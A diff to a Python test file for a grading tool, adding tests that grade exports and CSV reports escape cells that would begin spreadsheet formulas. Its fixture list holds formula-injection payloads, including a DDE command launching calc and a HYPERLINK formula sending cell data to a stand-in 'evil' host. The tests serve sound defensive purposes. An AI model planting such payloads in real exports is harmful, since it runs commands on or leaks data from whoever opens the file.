@@ -10,7 +10,7 @@ import pytest
 
 from autograde.cli import EXIT_USAGE, main
 from autograde.core.errors import UsageError
-from autograde.core.export import FORMATS, export_grades, read_grades, status_counts
+from autograde.core.export import FORMATS, GradeRow, export_grades, read_grades, status_counts
 from autograde.core.grading import STATUSES
 
 GRADES = """\
@@ -95,3 +95,30 @@ def test_bad_input_is_a_usage_error(tmp_path, capsys):
         with pytest.raises(UsageError, match=match):
             read_grades(bad)
     assert set(FORMATS) == {"canvas", "moodle", "plain"}
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A2,"x")', "+1+1", "-rf", "@SUM(1)"]
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_no_cell_of_an_export_starts_a_spreadsheet_formula(fmt):
+    # Student names are folder names: one named like a formula ran in the instructor's Excel.
+    rows = [GradeRow(name, "01_dp", 1.0, 5.0, "graded") for name in [*FORMULAS, "ann"]]
+    cells = [cell for row in table(export_grades(rows, fmt)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert {f"'{name}" for name in FORMULAS} <= set(cells) and "ann" in cells
+
+
+def test_grades_csv_does_not_start_a_spreadsheet_formula(tmp_path):
+    from autograde.core.grading import GradeResult
+    from autograde.core.reports import write_grades_csv
+    from autograde.core.spec import AssignmentSpec
+
+    spec = AssignmentSpec("01_dp", (), (), ())
+    rows = [(name, GradeResult("p", "01_dp", "graded", reason=name)) for name in FORMULAS]
+    write_grades_csv(tmp_path / "grades.csv", rows, {"01_dp": spec})
+    cells = [c for row in table((tmp_path / "grades.csv").read_text()) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert sorted(r.student for r in read_grades(tmp_path / "grades.csv")) == sorted(
+        f"'{name}" for name in FORMULAS
+    )
